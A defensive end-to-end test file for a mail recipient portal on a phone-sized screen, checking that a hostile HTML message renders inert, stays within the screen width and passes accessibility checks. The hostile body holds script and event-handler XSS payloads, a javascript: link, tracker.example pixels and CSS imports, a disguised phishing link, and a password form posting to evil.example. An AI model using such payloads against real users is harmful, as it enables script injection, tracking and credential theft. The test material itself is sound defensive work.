/**
 * The read flow on a phone-sized screen (375 px), with a message body full of
 * attacks: under the portal's real CSP and sandboxed frame nothing runs,
 * nothing remote loads without consent, nothing overflows the screen, and
 * axe-core finds no serious or critical problem.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ServerProcess } from '../server/helpers/process';
import { launchBrowser } from './helpers/browser';
import {
  describeViolations,
  linkIn,
  portalContext,
  screenshot,
  senderToken,
  sendEnvelope,
  seriousA11yViolations,
  startServer,
  waitForMail,
} from './helpers/portal-e2e';

const REP = 'rep@plan.example';
const RECIPIENT = 'frontdesk@smallclinic.example';
const TRACKER = 'https://tracker.example';

const HOSTILE_BODY = [
  '<p>Appointment confirmed for <b>March 3</b>.</p>',
  '<script>parent.pwned = "script"</script>',
  '<img src="x" onerror="parent.pwned = \'onerror\'">',
  `<img alt="clinic logo" src="${TRACKER}/open.gif?u=frontdesk">`,
  '<svg onload="parent.pwned = \'svg\'"><circle r="5"></circle></svg>',
  '<a href="javascript:parent.pwned=\'link\'">Confirm here</a>',
  '<a href="https://evil.example/login">https://plan.example/login</a>',
  `<div style="position:fixed;inset:0;background:url(${TRACKER}/bg.gif)">overlay</div>`,
  `<style>@import url(${TRACKER}/x.css); body { display: none }</style>`,
  '<form action="https://evil.example/"><input name="password" placeholder="Password"></form>',
  '<table style="width:900px"><tr><td>a very wide table from a desktop mail client</td></tr></table>',
].join('\n');

describe('recipient portal on a phone, reading a hostile message', () => {
  let server: ServerProcess;
  let browser: Browser;
  let page: Page;
  const trackerHits: string[] = [];
  const dialogs: string[] = [];

  beforeAll(async () => {
    [server, browser] = await Promise.all([startServer(), launchBrowser()]);
    const token = await senderToken(server.base, REP);
    await sendEnvelope(server.base, token, {
      from: REP,
      to: [RECIPIENT],
      subject: 'Appointment',
      html: HOSTILE_BODY,
      attachments: [
        {
          name: 'directions.txt',
          contentType: 'text/plain',
          contentBase64: Buffer.from('Turn left.\n').toString('base64'),
        },
      ],
    });
    const notice = await waitForMail(server.base, (m) => m.to.includes(RECIPIENT), `notice to ${RECIPIENT}`);
    const context = await portalContext(browser, { phone: true });
    await context.route(`${TRACKER}/**`, async (route) => {
      trackerHits.push(route.request().url());
      await route.fulfill({ status: 204 });
    });
    page = await context.newPage();
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(linkIn(notice, '/r/', server.base));
  }, 40_000);

  afterAll(async () => {
    await browser.close();
    server.child.kill('SIGTERM');
    await server.exited;
  });

  it('registers on a phone', async () => {
    await page.getByLabel(/^New password/).fill('four words on a phone');
    await page.getByLabel(/^Confirm new password/).fill('four words on a phone');
    const violations = await seriousA11yViolations(page);
    expect(violations, describeViolations(violations)).toEqual([]);
    await screenshot(page, 'phone-register');
    await page.getByRole('button', { name: 'Create password and read' }).tap();
    await page.waitForURL(/#\/thread\//);
  });

  it('shows the message inert: no script ran, no remote request, no form, links show their target', async () => {
    const frame = page.frameLocator('iframe[title^="Message from"]');
    await expect.poll(() => frame.locator('body').textContent()).toContain('Appointment confirmed');
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(trackerHits).toEqual([]);
    // (The frame's own style sheet is in its head; the sender's markup is the body.)
    expect(await frame.locator('script').count()).toBe(0);
    expect(await frame.locator('body :is(svg, form, input, style, [onerror], [onload])').count()).toBe(0);
    const hrefs = await frame.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    expect(hrefs).toEqual([null, 'https://evil.example/login']);
    expect(await frame.locator('.se-link-target').textContent()).toContain('https://evil.example/login');
    // The overlay lost its positioning and background: it is ordinary text in the message.
    expect(await frame.getByText('overlay').evaluate((el) => getComputedStyle(el).position)).toBe('static');
    expect(await frame.getByText('Image not shown: clinic logo').count()).toBe(1);
    await expect.poll(() => page.getByRole('button', { name: 'Show images' }).count()).toBe(1);
  });

  it('fits the phone: nothing wider than 375 px but the wide table, which scrolls inside the message', async () => {
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(width).toBeLessThanOrEqual(375);
    const box = await page.locator('iframe').first().boundingBox();
    expect(box?.width).toBeLessThanOrEqual(375);
    const violations = await seriousA11yViolations(page);
    expect(violations, describeViolations(violations)).toEqual([]);
    await screenshot(page, 'phone-thread');
  });

  it('asks before showing remote images, then puts them back in the message', async () => {
    await page.getByRole('button', { name: 'Show images' }).tap();
    const frame = page.frameLocator('iframe[title^="Message from"]');
    await expect.poll(() => frame.locator(`img[src^="${TRACKER}"]`).count()).toBe(1);
    expect(await frame.getByText('Image not shown').count()).toBe(0);
    expect(await page.getByRole('button', { name: 'Show images' }).count()).toBe(0);
  });

  it('the accessibility check is live: it reports a control without a label (control)', async () => {
    await page.evaluate(() => {
      const input = document.createElement('input');
      input.id = 'axe-control';
      document.querySelector('main')?.append(input);
    });
    const violations = await seriousA11yViolations(page);
    expect(violations.map((v) => v.id)).toContain('label');
    await page.evaluate(() => document.getElementById('axe-control')?.remove());
  });
});
